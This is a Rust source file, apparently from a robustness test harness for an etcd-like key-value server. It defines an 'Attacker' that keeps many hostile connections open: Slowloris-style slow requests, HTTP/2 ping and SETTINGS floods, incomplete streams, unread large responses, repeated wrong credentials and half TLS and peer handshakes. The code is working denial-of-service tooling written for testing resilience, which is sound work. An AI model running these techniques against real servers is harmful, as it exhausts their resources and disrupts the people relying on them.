//! Hostile connections, each of one kind. One thread has many of them and lets each do a little, again and again; a
//! closed one is opened again.

use crate::target::{LARGE_KEY, Target};
use crate::wire::{Dialler, Wire};
use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

/// Between two rounds over all connections of a thread.
const ROUND_PAUSE: Duration = Duration::from_millis(200);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const STREAMS: u32 = 100;
/// Requests whose answers nothing reads, at a time.
const UNREAD: u32 = 20;

#[derive(Clone, Copy)]
enum Kind {
    Idle,
    SlowHead,
    SlowBody,
    Pings,
    Settings,
    /// Requests of HTTP/2 that never become complete.
    Partial,
    /// Requests of HTTP/1 for a large value. The answers are not read.
    Unread,
    /// The same in HTTP/2, with windows that let everything out.
    UnreadStreams,
    /// A token that was never given out, again and again.
    WrongToken,
    /// A password that is wrong, which costs the server a hash.
    WrongPassword,
    /// A handshake of TLS that does not go on.
    HalfHandshake,
    /// On the peer port: half of a peer's hello.
    PeerHello,
    /// The same: a question of a node that wants to join, which never becomes whole.
    PeerQuestion,
    /// The same: a handshake of TLS that does not go on.
    PeerHandshake,
}

const KINDS: [Kind; 11] = [
    Kind::Idle,
    Kind::SlowHead,
    Kind::SlowBody,
    Kind::Pings,
    Kind::Settings,
    Kind::Partial,
    Kind::Unread,
    Kind::UnreadStreams,
    Kind::PeerHello,
    Kind::PeerQuestion,
    Kind::PeerHandshake,
];
const KINDS_OF_AUTH: [Kind; 2] = [Kind::WrongToken, Kind::WrongPassword];

impl Kind {
    fn is_of_peers(self) -> bool {
        matches!(self, Kind::PeerHello | Kind::PeerQuestion | Kind::PeerHandshake)
    }
}

pub struct Attacker {
    pub target: Target,
    pub dialler: Dialler,
    pub connections: usize,
    pub nth: usize,
}

impl Attacker {
    /// How many connections were opened.
    pub fn run(&self, stop: &AtomicBool, cut: &AtomicUsize) -> usize {
        let mut opened = 0;
        let kinds = self.kinds();
        let mut open: Vec<Option<Wire>> = (0..self.connections).map(|_| None).collect();
        while !stop.load(Ordering::Relaxed) {
            for (at, place) in open.iter_mut().enumerate() {
                if stop.load(Ordering::Relaxed) {
                    return opened;
                }
                let kind = kinds[(at + self.nth) % kinds.len()];
                let is_rest = at / kinds.len() % 2 == 1;
                *place = match place.take() {
                    None => self.begin(kind, is_rest).inspect(|_| opened += 1).ok(),
                    Some(wire) => {
                        let kept = self.go_on(wire, kind, is_rest);
                        cut.fetch_add(usize::from(kept.is_none()), Ordering::Relaxed);
                        kept
                    }
                };
            }
            std::thread::sleep(ROUND_PAUSE);
        }
        opened
    }

    fn kinds(&self) -> Vec<Kind> {
        let mut kinds = KINDS.to_vec();
        kinds.extend(self.target.token.iter().flat_map(|_| KINDS_OF_AUTH));
        kinds.extend(self.dialler.config.iter().map(|_| Kind::HalfHandshake));
        kinds
    }

    fn begin(&self, kind: Kind, is_rest: bool) -> io::Result<Wire> {
        let address = if kind.is_of_peers() { self.target.peer } else { self.target.address(is_rest) };
        let mut wire = match kind {
            _ if kind.is_of_peers() => Wire::Plain(self.dialler.dial_in_clear(address)?),
            Kind::HalfHandshake => Wire::Plain(self.dialler.dial_in_clear(address)?),
            _ => self.dialler.dial(address)?,
        };
        wire.write_all(&self.opening(kind, address))?;
        wire.stop_waiting()?;
        Ok(wire)
    }

    fn opening(&self, kind: Kind, address: SocketAddr) -> Vec<u8> {
        match kind {
            Kind::Idle | Kind::WrongToken | Kind::WrongPassword | Kind::Unread => Vec::new(),
            Kind::SlowHead => b"GET /health HTTP/1.1\r\nhost: ".to_vec(),
            Kind::SlowBody => {
                format!("PUT /v1/data/a HTTP/1.1\r\nhost: {address}\r\ncontent-length: 1000000\r\n\r\n")
                    .into_bytes()
            }
            Kind::Pings => PREFACE.to_vec(),
            Kind::Settings | Kind::Partial => {
                let heads = (0..STREAMS).flat_map(|nth| self.head(2 * nth + 1, "/etcdserverpb.KV/Put"));
                PREFACE.iter().copied().chain(heads).collect()
            }
            Kind::UnreadStreams => {
                let largest = 0x7fff_ffffu32.to_be_bytes();
                let windows = frame(4, 0, 0, &[&[0, 4][..], &largest].concat());
                let of_connection = frame(8, 0, 0, &(0x7fff_ffff - 65_535u32).to_be_bytes());
                let requests = (0..STREAMS).flat_map(|nth| self.range(2 * nth + 1));
                PREFACE.iter().copied().chain(windows).chain(of_connection).chain(requests).collect()
            }
            // A client's hello is announced, and its first bytes come.
            Kind::HalfHandshake | Kind::PeerHandshake => vec![22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3],
            Kind::PeerHello => b"ALTHINGP\x01\0".to_vec(),
            // Its length is announced, and its bytes come one at a time.
            Kind::PeerQuestion => b"ALTHINGJ\x01\0\0\x10\0\0".to_vec(),
        }
    }

    /// A little more of it. None when the other side has closed it.
    fn go_on(&self, mut wire: Wire, kind: Kind, is_rest: bool) -> Option<Wire> {
        let more = match kind {
            Kind::Idle | Kind::UnreadStreams => Vec::new(),
            Kind::SlowHead | Kind::SlowBody | Kind::HalfHandshake => vec![b'a'],
            Kind::PeerHello | Kind::PeerQuestion | Kind::PeerHandshake => vec![1],
            Kind::Pings => frame(6, 0, 0, &[0; 8]).repeat(200),
            // As many windows as one frame takes.
            Kind::Settings => frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff].repeat(2_730)).repeat(2),
            Kind::Partial => (0..STREAMS).flat_map(|nth| frame(0, 0, 2 * nth + 1, &[7; 1_000])).collect(),
            Kind::Unread => self.target.read_of(is_rest, LARGE_KEY).repeat(UNREAD as usize),
            Kind::WrongToken => self.target.read_as(is_rest, LARGE_KEY, Some("Bearer nonsense.7")).repeat(20),
            Kind::WrongPassword => {
                // `root` with the password `wrong`.
                self.target.read_as(is_rest, LARGE_KEY, Some("Basic cm9vdDp3cm9uZw=="))
            }
        };
        let written = wire.write(&more);
        let lives = |outcome: io::Result<usize>, none_is_end: bool| match outcome {
            Ok(0) => !none_is_end,
            Ok(_) => true,
            Err(error) => error.kind() == io::ErrorKind::WouldBlock,
        };
        let reads = !matches!(kind, Kind::Unread | Kind::UnreadStreams);
        let read = if reads { lives(wire.read(&mut [0; 16 * 1024]), true) } else { true };
        (lives(written, false) && read).then_some(wire)
    }

    /// The head of a call whose message is to follow.
    fn head(&self, stream: u32, path: &str) -> Vec<u8> {
        let mut fields = vec![0x83, 0x86];
        let token = self.target.token.as_deref().map(|token| ("token", token));
        for (name, value) in [(":path", path), ("content-type", "application/grpc")].into_iter().chain(token)
        {
            fields.push(0);
            for text in [name, value] {
                push_length(&mut fields, text.len());
                fields.extend_from_slice(text.as_bytes());
            }
        }
        frame(1, 4, stream, &fields)
    }

    /// A whole request for the large value.
    fn range(&self, stream: u32) -> Vec<u8> {
        let key = [&[0x0a, LARGE_KEY.len() as u8], LARGE_KEY.as_bytes()].concat();
        let message = [&[0, 0, 0, 0, key.len() as u8], &key[..]].concat();
        [self.head(stream, "/etcdserverpb.KV/Range"), frame(0, 1, stream, &message)].concat()
    }
}

/// As HPACK has the length of a text without Huffman's code: seven bits, and the rest in groups of seven.
fn push_length(fields: &mut Vec<u8>, length: usize) {
    if length < 127 {
        return fields.push(length as u8);
    }
    let mut rest = length - 127;
    fields.push(127);
    while rest >= 128 {
        fields.push((rest % 128 + 128) as u8);
        rest /= 128;
    }
    fields.push(rest as u8);
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_are_written_as_hpack_has_them() {
        let written = |length| {
            let mut fields = Vec::new();
            push_length(&mut fields, length);
            fields
        };
        assert_eq!(written(126), [126]);
        assert_eq!(written(127), [127, 0]);
        assert_eq!(written(127 + 1_210), [127, 186, 9]);
    }
}
